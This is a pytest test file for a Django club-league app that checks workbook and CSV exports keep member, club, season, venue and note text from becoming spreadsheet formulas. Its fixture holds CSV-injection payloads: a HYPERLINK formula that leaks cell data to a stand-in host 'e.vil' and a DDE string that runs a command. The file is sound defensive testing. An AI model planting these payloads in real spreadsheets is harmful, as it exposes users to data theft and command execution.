"""No formula from people's text, in any sheet or CSV: hostile member, club, season, rule set names, a venue and a
game's note are written into every export (every sheet of the season workbook, its title and header rows, the
results CSV, the import templates) and read back as text."""

import csv
import datetime
import io

import pytest
from django.utils import translation
from openpyxl import load_workbook

from league.exports import ExportChoice, csv_chunks, results_sheet, write_season_workbook
from league.exports.cells import FORMULA_STARTS
from league.imports.template import template_csv, template_workbook
from league.models import Game, Member
from league.services.meetings import set_closed
from league.stats.day import settle_day

from .standings_data import meeting_on, play, season_games

D = datetime.date
LINK = '=HYPERLINK("//e.vil/"&B3,"!")'
NAMES = [LINK, "+81", "@x", "-1"]
CLUB, SEASON, RULE_SET, VENUE, NOTE = "=1+1", "+2026", "＠ルール", "-venue", "\t=cmd|' /C calc'!A0"
HOSTILE = (*NAMES, CLUB, SEASON, RULE_SET, VENUE, NOTE)


@pytest.fixture
def hostile(club, secretary):
    season = season_games(club, secretary)
    for name in NAMES:
        Member.objects.create(club=club, name=name, kana="あ")
    meeting = meeting_on(club, D(2026, 7, 12))
    meeting.venue = VENUE
    meeting.save()
    game = play(meeting, 3, NAMES, [40000, 30000, 20000, 10000], secretary)
    Game.objects.filter(pk=game.pk).update(note=NOTE)
    set_closed(meeting, True)
    meeting.refresh_from_db()
    settle_day(meeting)
    club.name = CLUB
    club.save()
    rule_set = club.rule_sets.get()
    rule_set.name = RULE_SET
    rule_set.save()
    season.name = SEASON
    season.save()
    return ExportChoice.of_season(club, season)


def starts_hostile(value):
    return isinstance(value, str) and value.startswith(HOSTILE)


@pytest.mark.parametrize("language", ["ja", "en"])
def test_every_sheet_of_the_workbook_holds_people_s_text_as_text(hostile, language):
    out = io.BytesIO()
    with translation.override(language):
        write_season_workbook(hostile, out)
    book = load_workbook(io.BytesIO(out.getvalue()))
    seen = {}
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (ws.title, cell.coordinate)
                if starts_hostile(cell.value):
                    assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
                    seen.setdefault(ws.title, set()).add(next(h for h in HOSTILE if cell.value.startswith(h)))
    sheets = [ws.title for ws in book.worksheets]
    standings, printable, tally, games, results, meetings = (
        sheets[0],
        sheets[1],
        sheets[2],
        sheets[5],
        sheets[6],
        sheets[7],
    )
    assert set(NAMES) <= seen[tally]  # the 集計表's header row: the names were live formulas there
    assert CLUB in seen[tally]  # its title row: the club, the season and the rule set
    assert set(NAMES) <= seen[standings] and set(NAMES) <= seen[printable] and set(NAMES) <= seen[results]
    assert {*NAMES, RULE_SET, VENUE, NOTE} <= seen[games]
    assert VENUE in seen[meetings]
    tally_ws = book.worksheets[2]
    assert [cell.value for cell in tally_ws[2] if cell.value in NAMES] == NAMES  # shown as typed, no apostrophe


def test_the_results_csv_neutralises_every_text(hostile):
    with translation.override("en"):
        text = "".join(csv_chunks(results_sheet(hostile)))
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    header, body = rows[0], rows[1:]
    names = {row[header.index("Name")] for row in body}
    assert {"'" + name for name in NAMES} <= names
    assert {"'" + RULE_SET} == {row[header.index("Rule set")] for row in body}
    text_columns = [index for index, title in enumerate(header) if title in ("Name", "Rule set", "Seat")]
    for row in body:
        for index in text_columns:
            assert not row[index].startswith(FORMULA_STARTS), row[index]


@pytest.mark.parametrize("language", ["ja", "en"])
@pytest.mark.parametrize("players", [3, 4])
def test_the_import_templates_hold_text_as_text(language, players):
    with translation.override(language):
        book = load_workbook(io.BytesIO(template_workbook(players, 25000)))
        text = template_csv(players, 25000)
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f" and (not isinstance(cell.value, str) or cell.data_type == "s")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    assert all(not cell.startswith(FORMULA_STARTS) or cell.lstrip("-").isdigit() for row in rows for cell in row)
